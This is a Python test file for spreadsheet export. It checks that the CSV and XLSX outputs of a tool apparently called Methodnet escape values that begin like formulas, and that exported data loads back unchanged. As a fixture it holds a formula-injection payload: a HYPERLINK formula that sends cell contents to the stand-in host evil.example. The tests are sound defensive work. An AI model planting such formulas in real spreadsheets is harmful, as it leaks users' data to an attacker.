"""Safe output: no cell of any CSV or XLSX Methodnet writes runs as a formula, and a dataset
exported to CSV or XLSX loads back exactly."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cli.common import OutputFormat, print_rows
from graph.export import export
from graph.loaders.dataset import load_dataset
from graph.model import Batch, Supports
from graph.model.base import NodeRecord
from graph.spreadsheet import FORMULA_STARTS, escape_csv_cell, unescape_csv_cell
from graph.store import MemoryStore, Store

TINY = Path(__file__).resolve().parent / "data" / "tiny"
LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"подробнее")'
HOSTILE = [LEAK, "+7 911", "-", "@x", "'quoted", "''", "=1+1", "#N/A", "-12.5", "обычный текст"]
_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def hostile_store() -> Store:
    """The tiny dataset with hostile values in a name, a list, a support subject and more."""
    store = MemoryStore()
    load_dataset(store, TINY)
    batch = Batch()
    person = store.get_node("tiny-p-ivanova")
    assert person is not None
    batch.nodes[person.id] = NodeRecord(person.label, person.id, {
        **person.props, "full_name": LEAK, "subjects": ["-", "@x", "'quoted"]})
    for i, edge in enumerate(store.edges("SUPPORTS")[:2]):
        batch.add(Supports.from_record(edge).model_copy(update={"subject": HOSTILE[i + 1]}))
    competency = store.nodes("Competency")[0]
    batch.nodes[competency.id] = NodeRecord("Competency", competency.id,
                                            {**competency.props, "area": "=1+1"})
    store.write(batch)
    return store


def snapshot(store: Store) -> tuple[list[object], list[object]]:
    return sorted(store.nodes(), key=repr), sorted(store.edges(), key=repr)


def test_escape_and_unescape_round_trip_every_value() -> None:
    for value in [*HOSTILE, "\ttab", "\rcr", "", "'"]:
        cell = escape_csv_cell(value)
        assert unescape_csv_cell(cell) == value
        assert not cell.startswith(FORMULA_STARTS) or _NUMBER.match(cell)


def _formula_like_cells(folder: Path) -> list[str]:
    bad = []
    for file in folder.glob("*.csv"):
        with open(file, encoding="utf-8", newline="") as fh:
            for row in list(csv.reader(fh))[1:]:
                bad += [c for c in row if c.startswith(FORMULA_STARTS) and not _NUMBER.match(c)]
    return bad


def test_csv_export_writes_no_formula_and_loads_back_exactly(tmp_path: Path) -> None:
    store = hostile_store()
    export(store, tmp_path / "out", "csv")
    assert _formula_like_cells(tmp_path / "out") == []
    people = (tmp_path / "out" / "people.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in people and "'-|@x|'quoted" in people
    again = MemoryStore()
    load_dataset(again, tmp_path / "out")
    assert snapshot(again) == snapshot(store)


def _xlsx_formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        return [name for name in z.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in z.read(name)]


def test_xlsx_export_writes_texts_as_texts_and_loads_back_exactly(tmp_path: Path) -> None:
    store = hostile_store()
    book = tmp_path / "out.xlsx"
    export(store, book, "xlsx")
    assert _xlsx_formulas(book) == []
    wb = load_workbook(book)
    cells = [c for c in wb["people"].iter_rows() for c in c if c.value == LEAK]
    assert cells and all(c.data_type == "s" for c in cells)
    again = MemoryStore()
    load_dataset(again, book)
    assert snapshot(again) == snapshot(store)


@pytest.mark.parametrize("fmt", [OutputFormat.csv, OutputFormat.xlsx])
def test_cli_reports_write_no_formula(tmp_path: Path, fmt: OutputFormat) -> None:
    out = tmp_path / f"report.{fmt.value}"
    print_rows([{"name": v, "n": 1} for v in HOSTILE], fmt, out=out)
    if fmt is OutputFormat.csv:
        with open(out, encoding="utf-8", newline="") as fh:
            rows = list(csv.reader(fh))[1:]
        assert [unescape_csv_cell(r[0]) for r in rows] == HOSTILE
        assert not [r[0] for r in rows if r[0].startswith(FORMULA_STARTS)
                    and not _NUMBER.match(r[0])]
    else:
        assert _xlsx_formulas(out) == []
        ws = load_workbook(out).active
        assert ws is not None
        assert [c.value for c in ws["A"]][1:] == HOSTILE


def test_dashboard_gaps_xlsx_writes_no_formula() -> None:
    from tests.viz_dataset import PERIOD, load
    from viz.dashboard import dashboard, gaps_xlsx

    store = load(MemoryStore())
    teacher = store.get_node("t01")
    assert teacher is not None
    batch = Batch()
    batch.nodes["t01"] = NodeRecord("Person", "t01", {**teacher.props, "full_name": LEAK})
    store.write(batch)
    data = gaps_xlsx(dashboard(store, "RU-LEN", PERIOD))
    path = io.BytesIO(data)
    with zipfile.ZipFile(path) as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if "worksheets" in n)
    wb = load_workbook(io.BytesIO(data))
    found = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == LEAK]
    assert found and all(c.data_type == "s" for c in found)


def test_xml_illegal_characters_already_stored_do_not_break_an_xlsx(tmp_path: Path) -> None:
    """A value stored before control characters were refused is written escaped, not fatal."""
    store = MemoryStore()
    load_dataset(store, TINY)
    person = store.get_node("tiny-p-ivanova")
    assert person is not None
    batch = Batch()
    batch.nodes[person.id] = NodeRecord("Person", person.id,
                                        {**person.props, "full_name": "Иванова\x1b[31m"})
    store.write(batch)
    export(store, tmp_path / "out.xlsx", "xlsx")
    names = [c.value for c in load_workbook(tmp_path / "out.xlsx")["people"]["B"]]
    assert "Иванова\\x1b[31m" in names
